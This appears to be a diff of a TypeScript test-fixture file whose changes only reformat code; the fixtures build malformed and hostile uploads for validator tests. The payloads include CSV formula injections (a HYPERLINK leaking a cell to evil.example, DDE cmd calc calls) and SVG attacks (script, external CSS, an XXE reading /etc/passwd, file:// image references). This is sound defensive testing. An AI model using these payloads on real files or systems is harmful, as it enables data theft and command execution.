@@ -56,7 +56,9 @@ export function deepArchive(depth: number, open = '[', close = ']'): Uint8Array 
  */
 export function costlyKeyArchive(log2N: number, r: number, p: number, seed: number): Uint8Array {
   const header = Buffer.concat([MAGIC, Buffer.from([1, 1, log2N, r, p])]);
-  return new Uint8Array(Buffer.concat([header, Buffer.from(randomBytes(16 + 12 + 16 + 64 + 16, seed))]));
+  return new Uint8Array(
+    Buffer.concat([header, Buffer.from(randomBytes(16 + 12 + 16 + 64 + 16, seed))]),
+  );
 }
 
 /** Word files that are no notes: bombs, old .doc, zips without a document. */
@@ -82,7 +84,17 @@ export function notDocxFiles(): { kind: string; name: string; bytes: Uint8Array 
     });
   }
   for (let i = 0; i < 3; i++) {
-    const ole = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...randomBytes(3000, 500 + i)]);
+    const ole = new Uint8Array([
+      0xd0,
+      0xcf,
+      0x11,
+      0xe0,
+      0xa1,
+      0xb1,
+      0x1a,
+      0xe1,
+      ...randomBytes(3000, 500 + i),
+    ]);
     files.push({ kind: 'notes: old Word document', name: `old-${i}.docx`, bytes: ole });
   }
   for (let i = 0; i < 5; i++) {
@@ -113,9 +125,19 @@ export function brokenNotesFiles(): { kind: string; name: string; bytes: Uint8Ar
     });
   }
   for (const [i, text] of ['', '\n\n\n', '   \t  ', '\uFEFF', '\r\n\r\n'].entries()) {
-    files.push({ kind: 'notes: empty', name: `empty-${i}.${i % 2 ? 'md' : 'txt'}`, bytes: encode(text) });
+    files.push({
+      kind: 'notes: empty',
+      name: `empty-${i}.${i % 2 ? 'md' : 'txt'}`,
+      bytes: encode(text),
+    });
   }
-  for (const [i, name] of ['notes.pdf', 'notes.exe', 'notes.doc.zip', 'notes', 'notes.html'].entries()) {
+  for (const [i, name] of [
+    'notes.pdf',
+    'notes.exe',
+    'notes.doc.zip',
+    'notes',
+    'notes.html',
+  ].entries()) {
     files.push({ kind: 'notes: unsupported kind', name, bytes: randomBytes(500, 800 + i) });
   }
   return files;
@@ -128,12 +150,12 @@ export function formulaNormCsvs(): { name: string; bytes: Uint8Array }[] {
   const formulas = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"KK")',
     `=cmd|' /C calc'!A0`,
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
-    '+cmd|\' /C notepad\'!A0',
-    '-2+3+cmd|\' /C calc\'!A0',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!A0",
+    "-2+3+cmd|' /C calc'!A0",
     ' =1+1',
     '\u00A0=HYPERLINK("x")',
-    "'=HYPERLINK(\"http://evil.example\")",
+    '\'=HYPERLINK("http://evil.example")',
     '＝1+1',
     '"=1+1"',
   ];
@@ -159,8 +181,14 @@ export function externalSvgLogos(): { name: string; bytes: Uint8Array }[] {
     svg('<style>@import url("http://evil.example/a.css");</style><rect width="5" height="5"/>'),
     svg('<foreignObject width="10" height="10"><p>x</p></foreignObject>'),
     svg('<script>alert(1)</script><rect width="5" height="5"/>'),
-    svg('<text>&xxe;</text>', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
-    svg('<rect width="5" height="5"/>', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'),
+    svg(
+      '<text>&xxe;</text>',
+      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+    ),
+    svg(
+      '<rect width="5" height="5"/>',
+      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
+    ),
     svg('<rect width="5" height="5"/>', '<?xml-stylesheet href="file:///tmp/x.css"?>'),
     svg('<a href="http://evil.example"><rect width="5" height="5"/></a>'),
     svg('<svg:image href="file:///etc/hostname" xmlns:svg="http://www.w3.org/2000/svg"/>'),
